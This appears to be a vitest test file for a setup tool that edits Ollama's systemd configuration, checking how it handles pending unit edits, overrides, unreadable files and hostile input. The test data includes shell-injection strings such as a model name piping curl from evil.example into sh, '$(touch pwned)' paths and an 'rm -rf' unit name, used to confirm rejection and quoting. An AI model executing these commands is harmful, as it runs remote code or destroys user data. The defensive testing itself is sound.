/**
 * Hostile input on Linux (issue 12 §6, §9, §10, §11): a pending unit edit, overrides systemd
 * applies that a plain reading misses, files a user can't read, values that are no address, model
 * names that are commands, argv that forges report lines, a relative HOME, and two runs racing for
 * a stale lock. The service is the fake systemd (test/unit/support/fake-systemd.ts), which follows
 * systemd.exec(5) on its own; test/e2e/systemd-config.test.ts runs the same cases on real systemd.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { build } from 'esbuild';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { linuxPlatform as linuxSupport } from '../../platforms/linux/index.ts';
import { systemdUserStrategy } from '../../platforms/linux/elsewhere.ts';
import { readProcess } from '../../platforms/linux/listeners.ts';
import { renderDropIn } from '../../platforms/linux/systemd.ts';
import { readProxySources } from '../../scripts/audit-facts.ts';
import { run } from '../../scripts/cli.ts';
import { describeProcess } from '../../scripts/listeners.ts';
import { modelNameProblem } from '../../scripts/model-name.ts';
import { createNodeContext } from '../../scripts/node-context.ts';
import { ollamaHostProblem, parseOllamaHost } from '../../scripts/ollama-host.ts';
import { readStigmerConfig } from '../../scripts/stigmer-config.ts';
import { freePort } from '../support/standin-process.ts';
import { ok, tempRoot, testContext, NOT_FOUND, type TestContext } from './support/context.ts';
import { FakeSystemd } from './support/fake-systemd.ts';
import { fixture } from './support/fixtures.ts';
import { environmentSources, parseEnvironmentFiles, parseEnvironmentList, parseSystemctlShowAll, splitQuotedWords, unsetRemoves } from '../../platforms/linux/systemctl-show.ts';
import { because, needs } from './support/portability.ts';

let root: string;
let cleanup: () => Promise<void>;
let port: number;
let systemd: FakeSystemd;

const dropInDir = () => path.join(root, 'etc/systemd/system/ollama.service.d');
const dropIn = (name = 'stigmer-setup.conf') => path.join(dropInDir(), name);
const recordPath = () => path.join(root, 'var/lib/stigmer-setup/undo.json');

interface Report {
  ok: boolean;
  error?: string;
  changes: unknown[];
  checks: { id: string; status: string; message: string; fix?: string }[];
}

/** The fake's port is Stigmer's too, so a real Ollama on this machine's 11434 is not what the run looks at. */
function machine(options: Parameters<typeof testContext>[0] = {}): TestContext {
  return testContext({ exec: async (command, args) => (command === 'systemctl' ? systemd.exec(args) : NOT_FOUND), ...options, env: { STIGMER_LLM_BASE_URL: `http://localhost:${port}`, ...options.env } });
}

async function runCli(argv: string[], ctx = machine()): Promise<{ code: number; ctx: TestContext; report: Report }> {
  const code = await run([...argv, '--root', root], ctx);
  return { code, ctx, report: ctx.json[0] as Report };
}

/**
 * A drop-in systemd has loaded, as an admin leaves one; `restart` also restarts Ollama with it.
 * (Not where the result would be Ollama's default 127.0.0.1:11434: this machine may run a real
 * Ollama there.)
 */
async function loadedDropIn(name: string, text: string, { restart = true } = {}): Promise<void> {
  await mkdir(dropInDir(), { recursive: true });
  await writeFile(dropIn(name), text);
  await systemd.exec(['daemon-reload']);
  if (restart) await systemd.exec(['restart', 'ollama']);
}

const check = (report: Report, id: string) => report.checks.find((entry) => entry.id === id) as Report['checks'][number];

beforeEach(async () => {
  ({ root, cleanup } = await tempRoot());
  port = await freePort();
  systemd = new FakeSystemd(root, `127.0.0.1:${port}`);
  await systemd.start();
});
afterEach(async () => {
  await systemd.stop();
  await cleanup();
});

describe('a unit edit systemd has not loaded (NeedDaemonReload=yes)', () => {
  it('someone else\'s pending edit: setup refuses up front, changes nothing, and Ollama keeps running', async () => {
    await mkdir(dropInDir(), { recursive: true });
    // An unrelated edit, not reloaded: our restart would load it, and no rollback could unload it.
    await writeFile(dropIn('10-gpu.conf'), '[Service]\nEnvironment="CUDA_VISIBLE_DEVICES=0"\n');
    const pid = systemd.standin?.child.pid;
    const { code, report } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
    expect(code).toBe(1);
    expect(report.error).toContain('ollama.service has unit-file changes systemd has not loaded yet');
    expect(report.error).toContain('run `systemctl daemon-reload` yourself, check `systemctl status ollama`, then run setup again');
    expect(report.changes).toEqual([]);
    expect(systemd.restarts).toBe(0);
    expect(systemd.standin?.child.pid).toBe(pid);
    await expect(stat(dropIn())).rejects.toThrow(/ENOENT/);
    await expect(stat(recordPath())).rejects.toThrow(/ENOENT/);
  });

  it.skipIf(needs.proc)('our own drop-in, written by a run that stopped before its daemon-reload: setup reloads and restarts' + because(needs.proc), async () => {
    await mkdir(dropInDir(), { recursive: true });
    await writeFile(dropIn(), renderDropIn({ host: '0.0.0.0', port }));
    const { code, report } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
    expect(code, JSON.stringify(report)).toBe(0);
    expect(systemd.restarts).toBe(1);
    expect(systemd.loadedHost).toBe(`0.0.0.0:${port}`);
  });

  it('our drop-in edited by hand and not reloaded is not ours any more: refused', async () => {
    await mkdir(dropInDir(), { recursive: true });
    await writeFile(dropIn(), `${renderDropIn({ host: '0.0.0.0', port })}Environment="OLLAMA_DEBUG=1"\n`);
    const { code, report } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
    expect(code).toBe(1);
    expect(report.error).toContain('has unit-file changes systemd has not loaded yet');
    expect(systemd.restarts).toBe(0);
  });
});

describe('overrides systemd applies, read as systemd reads them', () => {
  /** Setup twice: each must refuse, name the file, and never restart Ollama. */
  async function expectRefusedTwice(name: RegExp): Promise<Report> {
    let last: Report | undefined;
    const restarts = systemd.restarts;
    for (let attempt = 0; attempt < 2; attempt++) {
      const { code, report } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
      expect(code).toBe(1);
      expect(report.error).toMatch(name);
      expect(report.changes).toEqual([]);
      last = report;
    }
    expect(systemd.restarts).toBe(restarts);
    await expect(stat(dropIn())).rejects.toThrow(/ENOENT/);
    return last as Report;
  }

  it('UnsetEnvironment=OLLAMA_HOST in a drop-in: refused, naming the file; doctor does not say "restart it"', async () => {
    await loadedDropIn('50-unset.conf', '[Service]\nUnsetEnvironment=OLLAMA_HOST\n', { restart: false });
    const report = await expectRefusedTwice(/UnsetEnvironment= in \/etc\/systemd\/system\/ollama\.service\.d\/50-unset\.conf removes OLLAMA_HOST/);
    expect(report.error).toBeDefined();
    const doctor = (await runCli(['doctor', '--json'])).report;
    const config = check(doctor, 'ollama.service-config');
    expect(config.message).toContain('UnsetEnvironment= in /etc/systemd/system/ollama.service.d/50-unset.conf removes OLLAMA_HOST');
    expect(config.fix).not.toMatch(/^sudo systemctl daemon-reload && sudo systemctl restart ollama$/);
  });

  it.skipIf(needs.proc)('an exact UnsetEnvironment=OLLAMA_HOST=VALUE removes only that value' + because(needs.proc), async () => {
    await loadedDropIn('50-unset.conf', `[Service]\nUnsetEnvironment=OLLAMA_HOST=10.0.0.1:${port}\n`);
    // It does not match what is set (127.0.0.1:port), so setup can go ahead.
    const { code } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
    expect(code).toBe(0);
    expect(systemd.loadedHost).toBe(`0.0.0.0:${port}`);
  });

  it('EnvironmentFile= with a wildcard: systemd expands it, so the matching file is named and setup refused', async () => {
    await mkdir(path.join(root, 'etc/ollama'), { recursive: true });
    await writeFile(path.join(root, 'etc/ollama/10-host.env'), `OLLAMA_HOST=127.0.0.1:${port}\n`);
    await writeFile(path.join(root, 'etc/ollama/20-other.env'), 'OLLAMA_DEBUG=1\n');
    await loadedDropIn('env.conf', '[Service]\nEnvironmentFile=/etc/ollama/*.env\n');
    await expectRefusedTwice(/\/etc\/ollama\/10-host\.env \(an EnvironmentFile= of ollama\.service\) sets OLLAMA_HOST=127\.0\.0\.1:/);
  });

  it('a required EnvironmentFile= that is missing: refused, because the restart would leave Ollama stopped', async () => {
    await loadedDropIn('env.conf', '[Service]\nEnvironmentFile=-/etc/default/ollama\n');
    // The admin drops the '-' and reloads, but the service has not been restarted since.
    await writeFile(dropIn('env.conf'), '[Service]\nEnvironmentFile=/etc/default/ollama\n');
    await systemd.exec(['daemon-reload']);
    await expectRefusedTwice(/\/etc\/default\/ollama is an EnvironmentFile= of ollama\.service without a '-' prefix, and it does not exist/);
    expect(systemd.standin).toBeDefined();
  });

  it('an empty Environment= in a drop-in read after ours: refused, naming that drop-in, with no restart on every run', async () => {
    await loadedDropIn('zz-reset.conf', '[Service]\nEnvironment=\nEnvironment="OLLAMA_MODELS=/data"\n', { restart: false });
    await expectRefusedTwice(/ollama\.service\.d\/zz-reset\.conf has an empty Environment= line, which systemd reads after stigmer-setup\.conf/);
  });

  it.skipIf(needs.proc)('an empty Environment= in a drop-in read before ours does not matter' + because(needs.proc), async () => {
    await loadedDropIn('00-reset.conf', '[Service]\nEnvironment=\n', { restart: false });
    const { code } = await runCli(['--yes', '--json', '--host', `0.0.0.0:${port}`]);
    expect(code).toBe(0);
    expect(systemd.loadedHost).toBe(`0.0.0.0:${port}`);
  });

  it('a hostile EnvironmentFile= path is quoted in the fix', async () => {
    const hostile = "/etc/default/ollama'$(touch pwned)";
    await mkdir(path.join(root, 'etc/default'), { recursive: true });
    await writeFile(path.join(root, hostile), 'OLLAMA_HOST=127.0.0.1:1\n');
    const ctx = testContext({
      exec: async (command, args) => {
        if (command !== 'systemctl') return NOT_FOUND;
        const shown = await systemd.exec(args);
        return args[0] === 'show' ? ok(`${shown.stdout}\nEnvironmentFiles=${hostile} (ignore_errors=no)\n`) : shown;
      },
    });
    expect(await run(['--yes', '--json', '--root', root], ctx)).toBe(1);
    const blocker = (ctx.json[0] as { blockers?: { fix: string }[]; error: string });
    const fix = JSON.stringify(blocker);
    expect(fix).toContain(`'/etc/default/ollama'\\\\''$(touch pwned)'`);
  });
});

describe('files a user cannot read, and values that are no address', () => {
  /** We run as root here; the e2e sudo suite reads a real 0600 drop-in as a user. */
  function unreadable(file: string): TestContext {
    const ctx = machine({ isRoot: false });
    const readText = ctx.fs.readText;
    ctx.fs = {
      ...ctx.fs,
      readText: async (target, options) => {
        if (target === path.join(root, file)) throw Object.assign(new Error(`EACCES: permission denied, open '${target}'`), { code: 'EACCES' });
        return readText(target, options);
      },
    };
    return ctx;
  }

  it('a 0600 drop-in: doctor reports it and goes on; setup refuses without a raw EACCES', async () => {
    await loadedDropIn('secret.conf', '[Service]\nEnvironment="HF_TOKEN=x"\n');
    const doctor = await runCli(['doctor', '--json'], unreadable('etc/systemd/system/ollama.service.d/secret.conf'));
    expect(doctor.report.checks.length).toBeGreaterThan(5);
    expect(check(doctor.report, 'ollama.service-config').message).toBe('/etc/systemd/system/ollama.service.d/secret.conf (read by ollama.service) can\'t be read: permission denied (run as root to read it).');
    const setup = await runCli(['--yes', '--json'], unreadable('etc/systemd/system/ollama.service.d/secret.conf'));
    expect(setup.code).toBe(1);
    expect(setup.report.error).toContain("secret.conf (read by ollama.service) can't be read");
    expect(setup.report.error).toContain('sudo npx stigmer-setup');
    expect(systemd.restarts).toBe(1);
  });

  it('an unreadable EnvironmentFile= is not taken as "does not set OLLAMA_HOST": setup refuses as a user', async () => {
    await mkdir(path.join(root, 'etc/default'), { recursive: true });
    await writeFile(path.join(root, 'etc/default/ollama'), `OLLAMA_HOST=127.0.0.1:${port}\n`);
    await loadedDropIn('env.conf', '[Service]\nEnvironmentFile=/etc/default/ollama\n');
    const setup = await runCli(['--yes', '--json'], unreadable('etc/default/ollama'));
    expect(setup.code).toBe(1);
    expect(setup.report.error).toContain("/etc/default/ollama (read by ollama.service) can't be read");
    expect(setup.report.changes).toEqual([]);
  });

  it.each(['0.0.0.0 :PORT', '[::1:]:PORT', '[fe80::1%eth0]:PORT'])('a configured OLLAMA_HOST=%j is a finding, not "Invalid URL"', async (pattern) => {
    // Our own port, so a real Ollama on this machine's 11434 is not what doctor looks at.
    const bad = pattern.replace('PORT', String(port));
    await systemd.stop();
    systemd = new FakeSystemd(root, bad);
    const doctor = await runCli(['doctor', '--json']);
    expect(doctor.ctx.stderr.join('\n')).not.toContain('Invalid URL');
    expect(doctor.report.checks.length).toBeGreaterThan(5);
    const config = check(doctor.report, 'ollama.service-config');
    expect(config.status).toBe('fail');
    expect(config.message).toContain('which is no address');
    expect(ollamaHostProblem(bad)).toBeDefined();
  });

  it.each(['[::1:', 'a b', '0.0.0.0:1\n', '[fe80::1%eth0]', 'exa_mple.com:1'])('%j is no address', (bad) => {
    expect(ollamaHostProblem(bad)).toBeDefined();
  });

  it.each(['0.0.0.0:11434', ':11434', '[::]:11434', 'http://0.0.0.0', 'localhost:11434', 'ollama.internal', '"0.0.0.0"', ''])('%j is an address', (good) => {
    expect(ollamaHostProblem(good)).toBeUndefined();
  });

  it('Ollama strips every run of quotes at both ends of OLLAMA_HOST, not one pair (envconfig.Var)', () => {
    expect(parseOllamaHost(`"'0.0.0.0:1234'"`)).toEqual({ host: '0.0.0.0', port: 1234 });
    expect(parseOllamaHost(`""0.0.0.0:1234`)).toEqual({ host: '0.0.0.0', port: 1234 });
    expect(parseOllamaHost(`'0.0.0.0:1234"`)).toEqual({ host: '0.0.0.0', port: 1234 });
    expect(parseOllamaHost(` " 0.0.0.0:1234 " `)).toEqual({ host: '0.0.0.0', port: 1234 });
  });
});

describe('model names from config.yaml are checked against Ollama\'s grammar (types/model/name.go)', () => {
  it.each(['qwen2.5-coder:7b', 'llama3', 'library/llama3:latest', 'registry.ollama.ai/library/llama3:8b', 'hf.co/bartowski/Llama-3.2-1B-Instruct-GGUF:Q4_K_M', 'localhost:5000/team/model:v1', 'https://example.com/ns/model:tag', '_x/_y:_z'])('%s is a model name', (name) => {
    expect(modelNameProblem(name)).toBeUndefined();
  });

  it.each([
    ['qwen; curl https://evil.example | sh', /holds a character/],
    ['', /model is empty/],
    ['llama3:', /tag is empty/],
    ['/llama3', /namespace is empty/],
    ['my.team/llama3', /namespace .* holds a character/],
    ['llama3:7b:q4', /model .* holds a character/],
    ['-rf', /must start with/],
    ['$(id)', /must start with/],
    [`m:${'t'.repeat(81)}`, /tag is longer than 80/],
    ['llama3\n✓ ok', /holds a character/],
  ])('%j is not', (name, reason) => {
    expect(modelNameProblem(name)).toMatch(reason);
  });

  it('a hostile model name is its own finding naming the file and line, and no fix carries it', async () => {
    const home = await mkdtemp(path.join(os.tmpdir(), 'stigmer-home-'));
    try {
      await mkdir(path.join(home, '.stigmer'));
      await writeFile(path.join(home, '.stigmer/config.yaml'), 'backend:\n  local:\n    llm:\n      model: "qwen; curl https://evil.example | sh"\n');
      const { report } = await runCli(['doctor', '--json'], machine({ env: { HOME: home } }));
      const config = check(report, 'stigmer.config');
      // Read as Ollama reads it, the '/' splits it into a host "qwen; curl https:" and more.
      expect(config.message).toBe(`${home}/.stigmer/config.yaml line 4: "qwen; curl https://evil.example | sh" is not a valid model name (its host "qwen; curl https:" holds a character Ollama does not allow there). Stigmer found: the Go CLI of Stigmer's Docker-runner era (found: Stigmer's configuration (~/.stigmer/config.yaml)), whose runner container will share the host's network (--network host, its Linux default).`);
      for (const finding of report.checks) expect(finding.fix ?? '').not.toContain('curl https://evil');
    } finally {
      await rm(home, { recursive: true, force: true });
    }
  });
});

describe('fixes quote what came from the machine', () => {
  it("a user unit named in a process's cgroup stays one word in every command", () => {
    const detection = { strategy: 'linux-systemd-user', description: 'x', unit: "ollama$(touch pwned)'.service", process: { pid: 1, argv: [] } };
    const commands = systemdUserStrategy.commands(detection as never, 11434);
    expect(commands.restart).toBe(`systemctl --user daemon-reload && systemctl --user restart 'ollama$(touch pwned)'\\'''`);
    expect(commands.widen).toContain(`mkdir -p ~/.config/systemd/user/'ollama$(touch pwned)'\\''.service.d' && `);
    // A control character can't be made safe by quoting: it is shown escaped, and named.
    const newline = systemdUserStrategy.commands({ ...detection, unit: 'ollama\nrm -rf ~.service' } as never, 11434);
    expect(newline.stop).toContain('(holds a control character: type it by hand)');
    expect(newline.stop).not.toContain('\n');
  });
});

describe('system-supplied fields', () => {
  let child: ChildProcess | undefined;
  afterEach(() => child?.kill('SIGKILL'));

  it.skipIf(needs.proc)('a newline in a process\'s argv can not start a forged line in the report' + because(needs.proc), async () => {
    child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 20000)', 'x\n✓ Ollama is reachable from containers'], { stdio: 'ignore' });
    await new Promise((resolve) => child?.once('spawn', resolve));
    const info = await readProcess(createNodeContext(), child.pid as number);
    expect(info?.argv.join(' ')).toContain('x✓ Ollama is reachable');
    for (const arg of info?.argv ?? []) expect(arg).not.toMatch(/[\n\r\t]/);
    expect(describeProcess({ pid: 1, argv: ['ollama', 'serve\n✓ forged'] })).toBe('pid 1: ollama serve✓ forged');
  });

  it('with HOME unset, nothing is read from a relative path (./.docker/config.json, ./.stigmer/config.yaml)', async () => {
    const ctx = testContext({ env: {} });
    ctx.env = { ...ctx.env, HOME: undefined };
    const read: string[] = [];
    const readText = ctx.fs.readText;
    ctx.fs = { ...ctx.fs, readText: async (file, options) => (read.push(file), readText(file, options)) };
    const sources = await readProxySources(ctx, linuxSupport);
    await readStigmerConfig(ctx, linuxSupport);
    expect(sources.map((source) => source.source)).toEqual(['this shell']);
    for (const file of read) expect(path.isAbsolute(file), file).toBe(true);
    const relative = testContext({ env: { HOME: 'relative-home' } });
    const relativeReads: string[] = [];
    relative.fs = { ...relative.fs, readText: async (file, options) => (relativeReads.push(file), readText(file, options)) };
    await readProxySources(relative, linuxSupport);
    await readStigmerConfig(relative, linuxSupport);
    expect(relativeReads).toEqual([]);
  });
});

describe('two runs that both find a stale lock', () => {
  let driver: string;
  let work: string;
  beforeAll(async () => {
    work = await mkdtemp(path.join(os.tmpdir(), 'stigmer-lock-race-'));
    driver = path.join(work, 'lock-driver.mjs');
    await build({ entryPoints: [path.join(import.meta.dirname, 'support/lock-driver.ts')], bundle: true, platform: 'node', format: 'esm', target: 'node20', outfile: driver, logLevel: 'silent' });
  });
  afterAll(async () => {
    await rm(work, { recursive: true, force: true });
  });

  it('never both take it over: real processes, started together, each enter and leave in turn', async () => {
    const stateDir = path.join(work, 'state');
    await mkdir(stateDir, { recursive: true });
    // The pid of a run that is gone.
    const dead = spawnSync('true').pid as number;
    await writeFile(path.join(stateDir, 'lock'), `${dead}\n`);
    const log = path.join(work, 'log');
    await writeFile(log, '');
    const runs = 6;
    const startAt = Date.now() + 600;
    const children = Array.from({ length: runs }, () => spawn(process.execPath, [driver, stateDir, log, String(startAt)], { stdio: 'ignore' }));
    await Promise.all(children.map((runner) => new Promise((resolve) => runner.once('exit', resolve))));
    const lines = (await readFile(log, 'utf8')).trim().split('\n');
    // Every run either held the lock alone or stopped with the reason; never two inside at once.
    let inside = 0;
    let entered = 0;
    for (const line of lines) {
      if (line.startsWith('enter')) {
        inside++;
        entered++;
        expect(inside, lines.join('\n')).toBe(1);
      } else if (line.startsWith('exit')) {
        inside--;
      } else {
        expect(line).toMatch(/^refused \d+ another stigmer-setup \(pid \d+\) is running/);
      }
    }
    expect(entered).toBeGreaterThanOrEqual(1);
    expect(lines).toHaveLength(runs * 2 - (runs - entered));
    await expect(stat(path.join(stateDir, 'lock'))).rejects.toThrow(/ENOENT/);
    await expect(stat(path.join(stateDir, 'lock.takeover'))).rejects.toThrow(/ENOENT/);
  });
});

describe('EnvironmentFile= wildcards that are hostile', () => {
  it.each(['/etc/ollama/[z-a].env', '/etc/ollama/[].env', '/etc/*/x.env'])('%s is reported, never a crash', async (pattern) => {
    const ctx = testContext({
      exec: async (command, args) => {
        if (command !== 'systemctl') return NOT_FOUND;
        const shown = await systemd.exec(args);
        return args[0] === 'show' ? ok(`${shown.stdout}\nEnvironmentFiles=${pattern} (ignore_errors=no)\n`) : shown;
      },
      env: { STIGMER_LLM_BASE_URL: `http://localhost:${port}` },
    });
    await mkdir(path.join(root, 'etc/ollama'), { recursive: true });
    expect(await run(['doctor', '--json', '--root', root], ctx)).toBe(1);
    const report = ctx.json[0] as Report;
    expect(report.checks.length).toBeGreaterThan(5);
  });
});

describe('undo and a pending unit edit', () => {
  it.skipIf(needs.proc)("refuses before restarting when someone else's edit waits for daemon-reload, and works once it is loaded" + because(needs.proc), async () => {
    expect((await runCli(['--yes', '--host', `0.0.0.0:${port}`])).code).toBe(0);
    await writeFile(dropIn('10-gpu.conf'), '[Service]\nEnvironment="CUDA_VISIBLE_DEVICES=0"\n');
    const restarts = systemd.restarts;
    const refused = await runCli(['undo', '--yes', '--json']);
    expect(refused.code).toBe(1);
    expect(refused.report.error).toContain('ollama.service has unit-file changes systemd has not loaded yet');
    expect(refused.report.error).toContain('Nothing was changed');
    expect(systemd.restarts).toBe(restarts);
    expect(await readFile(dropIn(), 'utf8')).toContain(`OLLAMA_HOST=0.0.0.0:${port}`);
    await systemd.exec(['daemon-reload']);
    expect((await runCli(['undo', '--yes'])).code).toBe(0);
    await expect(stat(dropIn())).rejects.toThrow(/ENOENT/);
  });
});

describe('systemctl show, as real systemd 252 prints these overrides', () => {
  it('an empty Environment= in a later drop-in threw away every assignment before it, the unit file\'s PATH included', () => {
    const all = parseSystemctlShowAll(fixture('systemctl/show-ollama-unset-wildcard-reset-systemd252.txt'));
    expect([...parseEnvironmentList(all.get('Environment')?.[0] ?? '')]).toEqual([['OLLAMA_KEEP_ALIVE', '5m']]);
    expect(parseEnvironmentFiles(all.get('EnvironmentFiles') ?? [])).toEqual([
      { path: '/etc/ollama/*.env', optional: true },
      { path: '/etc/default/ollama', optional: false },
    ]);
    // The same files read in systemd's order name zz-reset.conf as the one that reset it.
    const sources = environmentSources(
      [
        { path: '/etc/systemd/system/ollama.service', text: '[Service]\nEnvironment="PATH=/usr/bin"\n' },
        { path: 'override.conf', text: '[Service]\nEnvironment="OLLAMA_HOST=0.0.0.0:11434" "OLLAMA_MODELS=/srv/my models"\nUnsetEnvironment=OLLAMA_HOST OLLAMA_DEBUG=1\n' },
        { path: 'zz-reset.conf', text: '[Service]\nEnvironment=\n' },
        { path: 'zzz-after.conf', text: '[Service]\nEnvironment="OLLAMA_KEEP_ALIVE=5m"\n' },
      ],
      'OLLAMA_HOST',
    );
    expect(sources).toEqual({ setBy: undefined, resetBy: 'zz-reset.conf', unsetBy: 'override.conf' });
  });

  it('UnsetEnvironment= lists names and exact assignments; Environment= quotes a value with a space', () => {
    const all = parseSystemctlShowAll(fixture('systemctl/show-ollama-environment-quoted-unset-systemd252.txt'));
    const environment = parseEnvironmentList(all.get('Environment')?.[0] ?? '');
    expect(environment.get('OLLAMA_MODELS')).toBe('/srv/my models');
    expect(environment.get('OLLAMA_HOST')).toBe('0.0.0.0:11434');
    const unset = splitQuotedWords(all.get('UnsetEnvironment')?.[0] ?? '');
    expect(unset).toEqual(['OLLAMA_HOST', 'OLLAMA_DEBUG=1']);
    expect(unsetRemoves(unset, 'OLLAMA_HOST', '0.0.0.0:11434')).toBe(true);
    expect(unsetRemoves(unset, 'OLLAMA_DEBUG', '2')).toBe(false);
    expect(unsetRemoves(unset, 'OLLAMA_DEBUG', '1')).toBe(true);
  });
});
